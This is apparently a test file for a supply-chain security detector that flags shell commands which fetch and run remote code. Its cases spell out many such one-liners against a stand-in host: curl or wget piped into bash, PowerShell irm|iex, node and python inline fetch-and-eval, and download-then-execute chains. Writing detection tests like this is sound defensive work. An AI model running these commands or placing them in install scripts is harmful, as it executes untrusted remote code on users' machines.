import { flattenCommands, remoteCodeExecution, splitCommands } from "../../../src/rules/supply-chain/shell-command.js";

describe("splitCommands", () => {
  test("splits on operators outside quotes and resolves quoting", () => {
    const commands = splitCommands(`echo 'a && b' "c \\"d\\"" e\\ f && curl -s x | sh; FOO=1 node ./x.js # comment`);
    expect(commands.map((c) => c.argv)).toEqual([["echo", "a && b", 'c "d"', "e f"], ["curl", "-s", "x"], ["sh"], ["FOO=1", "node", "./x.js"]]);
    expect(commands.map((c) => c.next)).toEqual(["&&", "|", ";", undefined]);
  });

  test("keeps $( … ) in one word", () => {
    expect(splitCommands(`sh -c "$(curl -fsSL https://x)"`)[0]!.argv).toEqual(["sh", "-c", "$(curl -fsSL https://x)"]);
  });

  test("flattenCommands descends into sh -c and strips sudo/env prefixes", () => {
    expect(flattenCommands(`sudo env A=1 bash -c "npx -y pkg && echo ok"`)).toEqual([["bash", "-c", "npx -y pkg && echo ok"], ["npx", "-y", "pkg"], ["echo", "ok"]]);
  });
});

describe("remoteCodeExecution", () => {
  test.each([
    ["curl -fsSL https://x.example/i.sh | sudo bash", "pipes curl into bash"],
    ["wget -qO- https://x.example/i.sh | sh -s -- --yes", "pipes wget into sh"],
    [`sh -c "$(curl -fsSL https://x.example/i.sh)"`, "runs the output of curl as code"],
    ["bash <(curl -s https://x.example/i.sh)", "runs the output of curl as code"],
    ["curl -o /tmp/i.sh https://x.example/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh", "downloads https://x.example/i.sh and then runs it (/tmp/i.sh)"],
    ["wget https://x.example/get.sh && ./get.sh", "downloads https://x.example/get.sh and then runs it (./get.sh)"],
    ["curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh", "downloads https://x.example/i.sh and then runs it (sh /tmp/i.sh)"],
    ["curl -O https://x.example/setup.py; python3 setup.py", "downloads https://x.example/setup.py and then runs it (python3 setup.py)"],
    ["irm https://x.example/i.ps1 | iex", "downloads a script with PowerShell and runs it with Invoke-Expression"],
    [`node -e "fetch('https://x.example/p').then(r=>r.text()).then(eval)"`, "runs node inline code that loads https://x.example/p"],
    [`python -c "import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())"`, "runs python inline code that loads https://x.example/p.py"],
    ["deno run -A https://x.example/mod.ts", "runs deno on a remote script https://x.example/mod.ts"],
    [`bash -c 'curl -s https://x.example | bash'`, "pipes curl into bash"],
  ])("%s", (script, expected) => {
    expect(remoteCodeExecution(script)).toBe(expected);
  });

  test.each([
    "curl -o data.tgz https://x.example/data.tgz && tar xzf data.tgz",
    "wget https://x.example/model.bin && echo done",
    "curl -o data.json https://x.example/d.json && ./bin/import data.json",
    "node scripts/postinstall.js",
    "node -e \"console.log('no url')\"",
    "curl -s https://api.example.com/ping | jq .",
    "echo 'curl https://x | sh'",
  ])("quiet: %s", (script) => {
    expect(remoteCodeExecution(script)).toBeUndefined();
  });
});
